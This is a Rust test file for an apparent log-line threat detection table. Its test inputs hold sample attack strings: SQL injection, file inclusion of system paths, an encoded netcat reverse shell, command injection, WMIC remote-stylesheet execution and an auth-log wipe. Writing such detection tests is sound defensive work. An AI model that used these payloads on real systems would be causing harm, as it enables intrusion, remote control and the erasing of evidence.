use super::*;

#[test]
fn every_row_of_the_table_is_sound() {
    for Rule { group, name, techniques } in &TABLE.rows {
        assert!(!name.is_empty());
        assert_eq!(techniques.len(), group.techniques.len(), "{name}: a technique id is wrong");
        let harmless = group.strength == Strength::Harmless;
        assert_eq!(harmless, group.class == ThreatClass::Benign, "{name}");
    }
}

/// Alternatives that are searched in every line: each costs time on each line, so there are few.
#[test]
fn nearly_every_alternative_needs_a_literal() {
    let unfiltered: Vec<&str> =
        TABLE.filter.candidates(b"").into_iter().map(|part| TABLE.parts[part].1.as_str()).collect();
    assert!(unfiltered.len() <= 4, "{unfiltered:#?}");
}

/// What a line is taken for by its strongest rule; none where none means anything alone.
#[test]
fn requests_are_named_for_what_they_carry() {
    let guess =
        r#"192.0.2.9 - - [03/Nov/2026:02:11:04] "POST /wp-login.php HTTP/1.1" 401 0 "-" "-""#;
    let (three, two) = ([guess; 3].join(" "), [guess; 2].join(" "));
    for (line, expected) in [
        (r#""GET /item?id=guest'-- HTTP/1.1" 500 9"#, Some("SQL injection in a request")),
        (r#""GET /item?id=7%20AND%201=CAST(1 HTTP/1.1" 500 9"#, Some("SQL injection in a request")),
        (r#""GET /item?id=o'brien HTTP/1.1" 200 9"#, None),
        (r#"mysqld: 42 Query SELECT @@version LIMIT 1"#, None),
        (
            r#""GET /view?page=/etc/nginx/nginx.conf HTTP/1.1" 200 9"#,
            Some("local or remote file inclusion in a request"),
        ),
        (
            r#""GET /view?page=/windows/win.ini HTTP/1.1" 200 9"#,
            Some("local or remote file inclusion in a request"),
        ),
        (r#""GET /view?page=/etcetera/about HTTP/1.1" 200 9"#, None),
        (
            r#""GET /ping?to=%7Cnc%20192.0.2.7%204444%20-e%20/bin/sh HTTP/1.1" 200 9"#,
            Some("reverse shell in a request"),
        ),
        ("waf: 12,000 requests per second from 192.0.2.9", Some("a device reported a flood")),
        ("cache: 12,000 requests per second served", None),
        ("proxy: uploaded 900 MB to external host 192.0.2.9", Some("data leaving reported")),
        (r#""GET /search?q=l%27hiver+%22drop+leaf%22 HTTP/1.1" 200 9"#, None),
        (r#""GET /item?id=7%27 HTTP/1.1" 500 9"#, Some("suspicious characters in a request")),
        ("POST /Microsoft-Server-ActiveSync/default.eas Cmd=Ping&User=kim 443", None),
        (
            r#""GET /x?cmd=ping%20-c%201%20192.0.2.7 HTTP/1.1" 200 9"#,
            Some("command injection in a request"),
        ),
        ("GET /owa/auth/logon.aspx replaceCurrent=1 443 - 192.0.2.9 - 200 0 0 15", None),
        (r#""GET /owa/auth.aspx HTTP/1.1" 404 9"#, Some("request for administration pages")),
        ("LOG:  statement: SELECT 1 FROM t WHERE a = 'x' AND b = 'y' UNION ALL SELECT 2", None),
        (
            r#""GET /item?id=7 UNION ALL SELECT 1,2 HTTP/1.1" 200 9"#,
            Some("SQL injection in a request"),
        ),
        ("WMIC.exe logicaldisk get Size /format:csv", None),
        ("WMIC.exe os get /format:\\\\192.0.2.9\\a.xsl", Some("hidden or disguised execution")),
        (r#"{"CommandLine":"regsvr32.exe /s a.dll","ParentImage":"C:\\Temp\\setup.exe"}"#, None),
        (r#"{"EventID":"4776","Status":"0x0"}"#, None),
        (r#"{"EventID":"4776","Status":"0xC000006A"}"#, Some("failed logon (Windows 4625)")),
        ("CRON[9]: (db) CMD (/usr/local/bin/dump >> /var/log/dump.log 2>&1)", None),
        ("bash[9]: cat /dev/null > /var/log/auth.log", Some("traces removed")),
        ("rspamd: F (no action) [DMARC_POLICY_ALLOW(-0.50){example.net;quarantine;}]", None),
        (three.as_str(), Some("failed web logins in a row")),
        (two.as_str(), Some("request for administration pages")),
    ] {
        let hits = hits(line);
        let telling = hits.first().filter(|hit| hit.strength > Strength::Trace);
        assert_eq!(telling.map(|hit| hit.name.as_ref()), expected, "{line}");
    }
}
